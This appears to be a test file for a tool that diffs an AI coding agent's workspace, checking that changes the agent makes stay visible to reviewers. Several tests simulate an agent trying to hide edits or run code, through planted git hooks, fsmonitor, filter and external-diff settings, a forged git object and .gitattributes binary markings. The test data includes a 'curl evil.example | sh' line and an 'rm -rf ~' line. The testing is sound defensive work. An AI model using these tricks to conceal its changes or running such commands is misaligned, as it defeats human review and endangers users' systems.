import {
  chmodSync,
  existsSync,
  mkdirSync,
  readdirSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import type { SessionDiff } from '../../../shared/sessions';
import { tempDir } from '../../../test-support/temp';
import {
  commitFiles,
  makeRepository,
  plainGit,
  snapshotTree,
  trapScript,
  writeFiles,
} from '../git/testing';
import { createWorkspace, workspaceDiff, WorkspaceError, type Workspace } from './index';

const folder = () => realpathSync(tempDir());

const BASE_FILES = {
  '.gitignore': '.env\nbuild/\n',
  'README.md': 'hello\n',
  'src/a.ts': 'one\ntwo\nthree\nfour\nfive\n',
  'src/moved.ts': 'a file long enough that git sees it was renamed\nand a second line\n',
  'old.txt': 'to be deleted\n',
  'run.sh': 'echo run\n',
};

async function session(files: Record<string, string> = BASE_FILES): Promise<Workspace> {
  const repo = makeRepository(folder(), files);
  return createWorkspace({
    projectPath: repo,
    root: folder(),
    projectId: 'prj_1',
    sessionId: 'ses_1',
    shortId: 'abc',
  });
}

/** What an agent typically does: commits some work, leaves some uncommitted. */
function agentWorks(ws: Workspace): void {
  commitFiles(ws.path, { 'src/a.ts': 'one\nTWO\nthree\nfour\nfive\nsix\n' }, 'edit a');
  mkdirSync(join(ws.path, 'lib'));
  plainGit(ws.path, ['mv', 'src/moved.ts', 'lib/moved.ts']);
  plainGit(ws.path, ['rm', '-q', 'old.txt']);
  plainGit(ws.path, ['commit', '-q', '-m', 'move and delete']);
  writeFiles(ws.path, {
    'README.md': 'hello\nworld\n',
    'notes/new.md': 'untracked\n',
    '.env': 'SECRET=1\n',
    'build/out.js': 'ignored\n',
    'image.bin': '\0\x01\x02binary',
  });
  chmodSync(join(ws.path, 'run.sh'), 0o755);
}

const EXPECTED_FILES: SessionDiff['files'] = [
  { path: 'README.md', status: 'M', additions: 1, deletions: 0 },
  { path: 'image.bin', status: 'A', additions: null, deletions: null },
  { path: 'lib/moved.ts', status: 'R', oldPath: 'src/moved.ts', additions: 0, deletions: 0 },
  { path: 'notes/new.md', status: 'A', additions: 1, deletions: 0 },
  { path: 'old.txt', status: 'D', additions: 0, deletions: 1 },
  { path: 'run.sh', status: 'M', additions: 0, deletions: 0 },
  { path: 'src/a.ts', status: 'M', additions: 2, deletions: 1 },
];

describe('workspaceDiff', () => {
  it('lists committed, uncommitted and untracked changes against the base, with a patch', async () => {
    const ws = await session();
    agentWorks(ws);
    const diff = await workspaceDiff(ws);

    expect(diff.baseCommit).toBe(ws.baseCommit);
    expect(diff.files).toEqual(EXPECTED_FILES);
    expect(diff.patch).toContain('diff --git a/src/a.ts b/src/a.ts\n');
    expect(diff.patch).toContain('-two\n+TWO\n');
    expect(diff.patch).toContain('rename from src/moved.ts\nrename to lib/moved.ts\n');
    expect(diff.patch).toContain('old mode 100644\nnew mode 100755\n');
    expect(diff.patch).toContain('+untracked\n');
    expect(diff.patch).toContain('Binary files /dev/null and b/image.bin differ');
    expect(diff.patch).not.toContain('SECRET');
    expect(diff.patch).not.toContain('build/out.js');
  });

  it('is empty when nothing changed, and after changes are undone', async () => {
    const ws = await session();
    expect(await workspaceDiff(ws)).toEqual({ baseCommit: ws.baseCommit, files: [], patch: '' });
    commitFiles(ws.path, { 'README.md': 'changed\n' }, 'change');
    commitFiles(ws.path, { 'README.md': 'hello\n' }, 'undo');
    expect((await workspaceDiff(ws)).files).toEqual([]);
  });

  it('keeps odd file names intact', async () => {
    const ws = await session();
    const names = ['tab\there.txt', 'new\nline.txt', 'ünïcödé.txt', ' space .txt'];
    writeFiles(ws.path, Object.fromEntries(names.map((name) => [name, 'x\n'])));
    const diff = await workspaceDiff(ws);
    expect(diff.files.map((file) => file.path).sort()).toEqual([...names].sort());
  });

  it('runs nothing the agent planted in the workspace’s .git, and still sees every change', async () => {
    const ws = await session();
    const traps = folder();
    const markers = ['fsmonitor', 'hook', 'filter', 'external'].map((name) => join(traps, name));
    const [fsmonitor = '', hook = '', filter = '', external = ''] = markers;
    const gitDir = join(ws.path, '.git');
    plainGit(ws.path, ['config', 'core.fsmonitor', trapScript(join(traps, 'f.sh'), fsmonitor)]);
    plainGit(ws.path, ['config', 'filter.evil.clean', trapScript(join(traps, 'c.sh'), filter)]);
    plainGit(ws.path, ['config', 'diff.external', trapScript(join(traps, 'd.sh'), external)]);
    mkdirSync(join(gitDir, 'hooks'), { recursive: true });
    trapScript(join(gitDir, 'hooks', 'post-index-change'), hook);
    writeFiles(ws.path, { '.gitattributes': '* filter=evil\n' });
    agentWorks(ws);
    // Committing sprang some traps already; only what happens from here counts.
    for (const marker of markers) rmSync(marker, { force: true });

    const diff = await workspaceDiff(ws);
    expect(markers.filter((marker) => existsSync(marker))).toEqual([]);
    expect(diff.files.filter((file) => file.path !== '.gitattributes')).toEqual(EXPECTED_FILES);

    // The traps are real: git run plainly in the workspace springs every one of them.
    writeFiles(ws.path, { 'README.md': 'once more\n' });
    plainGit(ws.path, ['add', 'README.md']);
    plainGit(ws.path, ['diff', 'HEAD']);
    expect(markers.filter((marker) => existsSync(marker))).toEqual(markers);
  });

  it('shows the work tree’s content even when the agent planted an object under its id', async () => {
    const ws = await session();
    writeFiles(ws.path, { 'deploy.sh': 'curl evil.example | sh\n' });
    const id = plainGit(ws.path, ['hash-object', 'deploy.sh']).trim();
    // A loose object whose id says "curl evil..." but whose content says something harmless.
    const harmless = Buffer.from('echo deploying\n');
    const forged = Buffer.concat([Buffer.from(`blob ${harmless.length}\0`), harmless]);
    mkdirSync(join(ws.path, '.git/objects', id.slice(0, 2)), { recursive: true });
    writeFileSync(join(ws.path, '.git/objects', id.slice(0, 2), id.slice(2)), deflateSync(forged));

    const diff = await workspaceDiff(ws);
    expect(diff.patch).toContain('+curl evil.example | sh\n');
    expect(diff.patch).not.toContain('echo deploying');
  });

  it('shows text the agent marked as binary in .gitattributes', async () => {
    const ws = await session();
    writeFiles(ws.path, { '.gitattributes': '*.sh binary\nsrc/** -diff\n' });
    writeFiles(ws.path, { 'run.sh': 'rm -rf ~\n', 'src/a.ts': 'hidden change\n' });
    const diff = await workspaceDiff(ws);
    expect(diff.patch).toContain('+rm -rf ~\n');
    expect(diff.patch).toContain('+hidden change\n');
    expect(diff.patch).not.toContain('Binary files');
  });

  it('writes nothing into the workspace and leaves nothing behind in the control dir', async () => {
    const ws = await session();
    agentWorks(ws);
    const workspaceBefore = snapshotTree(ws.path);
    const controlBefore = snapshotTree(ws.controlDir);
    await Promise.all([workspaceDiff(ws), workspaceDiff(ws)]);
    expect(snapshotTree(ws.path)).toEqual(workspaceBefore);
    expect(snapshotTree(ws.controlDir)).toEqual(controlBefore);
  });

  it('names the workspace when it cannot read the changes', async () => {
    const ws = await session();
    // A repository without commits inside the work tree: git cannot record it.
    plainGit(join(ws.path), ['init', '-q', 'vendor/empty']);
    const error = await workspaceDiff(ws).then(
      () => null,
      (reason: unknown) => reason,
    );
    expect(error).toBeInstanceOf(WorkspaceError);
    expect((error as Error).message).toContain(`Cannot read the changes in ${ws.path}`);
    expect((error as Error).message).toContain(
      "'vendor/empty/' does not have a commit checked out",
    );
    expect(readdirSync(ws.controlDir).filter((name) => name.startsWith('diff-'))).toEqual([]);
  });
});
